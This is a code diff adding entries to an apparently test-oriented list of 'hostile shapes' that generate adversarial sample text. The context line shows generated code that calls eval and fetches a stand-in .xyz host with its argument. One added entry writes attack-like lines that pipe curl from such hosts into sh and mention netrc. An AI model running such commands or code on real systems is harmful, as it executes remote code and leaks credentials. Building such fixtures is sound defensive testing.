@@ -114,4 +114,20 @@ export const hostileShapes = (): { name: string; what: string; text: () => strin
     what: 'code without lines',
     text: () => filled((n) => `function a${n}(b){return eval(b),fetch("https://h${n}.xyz/"+b)};`),
   },
+  {
+    name: 'notes.txt',
+    what: 'words that differ, in lines of a few',
+    text: () => filled((n) => `${n.toString(36).replace(/\d/g, 'z')} ab | $ ~ cd\n`),
+  },
+  {
+    name: 'notes.txt',
+    what: 'schemes of addresses without an end',
+    text: () => filled((n) => `a://b:${n}@c://d:`),
+  },
+  {
+    name: 'notes.txt',
+    what: 'lines that read like attacks',
+    text: () =>
+      filled((n) => `so that curl <a ${n}> https://x${n}.xyz quietly | sh dev null netrc\n`),
+  },
 ]
